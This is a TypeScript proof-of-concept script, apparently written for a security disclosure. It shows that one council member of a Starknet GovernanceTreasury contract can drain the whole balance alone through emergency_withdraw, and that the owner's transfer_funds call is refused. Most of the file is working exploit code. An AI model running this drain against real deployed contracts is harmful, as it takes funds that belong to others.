/**
 * Shows defect G1 of the published GovernanceTreasury: one council member takes everything, alone and at once; and
 * defect G2: the owner's transfer_funds can't pay.
 *
 * npm install starknet tsx
 * Set RPC_URL, CIRO_TOKEN, GOVERNANCE_TREASURY; ACCOUNT_ADDRESS and PRIVATE_KEY (the owner), MEMBER_1_ADDRESS and
 * MEMBER_1_PRIVATE_KEY (a council member), BENEFICIARY_ADDRESS.
 */
import { Account, CallData, RpcError, RpcProvider, type RawArgs, cairo } from 'starknet';

function env(name: string): string {
  const value = process.env[name];
  if (!value) throw new Error(`Set the environment variable ${name}.`);
  return value;
}

const provider = new RpcProvider({ nodeUrl: env('RPC_URL') });
const signer = (role: string, key = `${role}_PRIVATE_KEY`): Account =>
  new Account({ provider, address: env(`${role}_ADDRESS`), signer: env(key) });
const owner = signer('ACCOUNT', 'PRIVATE_KEY');
const member1 = signer('MEMBER_1');
const CIRO = 10n ** 18n;
const treasury = env('GOVERNANCE_TREASURY');

/** Sends one call, waits, and stops when it reverted. */
async function send(from: Account, contractAddress: string, entrypoint: string, args: RawArgs = {}) {
  const { transaction_hash } = await from.execute({
    contractAddress,
    entrypoint,
    calldata: CallData.compile(args),
  });
  const receipt = await provider.waitForTransaction(transaction_hash);
  if (!receipt.isSuccess()) throw new Error(`${entrypoint} reverted.`);
  return receipt.value;
}

/** The reason why a call is refused; `execute` throws it when it estimates, before anything is sent or paid. */
async function refusal(attempt: Promise<unknown>): Promise<string> {
  try {
    await attempt;
    return 'not refused';
  } catch (error) {
    if (!(error instanceof RpcError)) throw error;
    const text = JSON.stringify(error.baseError);
    return /\('([^']+)'\)/.exec(text)?.[1] ?? /\\"([^"\\]+)\\"/.exec(text)?.[1] ?? error.baseError.message;
  }
}

async function balance(holder: string): Promise<string> {
  const [low] = await provider.callContract({
    contractAddress: env('CIRO_TOKEN'),
    entrypoint: 'balance_of',
    calldata: [holder],
  });
  const cents = (BigInt(low!) * 100n) / CIRO;
  return `${cents / 100n}.${(cents % 100n).toString().padStart(2, '0')} CIRO`;
}

await send(owner, env('CIRO_TOKEN'), 'transfer', { recipient: treasury, amount: cairo.uint256(500n * CIRO) });

// #region transfer-funds
const pay = { to: env('BENEFICIARY_ADDRESS'), amount: cairo.uint256(1n * CIRO) };
console.log('owner pays 1 :', await refusal(send(owner, treasury, 'transfer_funds', pay)));
// #endregion transfer-funds

// #region alone
await send(member1, treasury, 'emergency_withdraw', {
  token: env('CIRO_TOKEN'),
  amount: cairo.uint256(500n * CIRO),
});
console.log('member 1 took:', await balance(member1.address));
console.log('treasury     :', await balance(treasury));
// #endregion alone
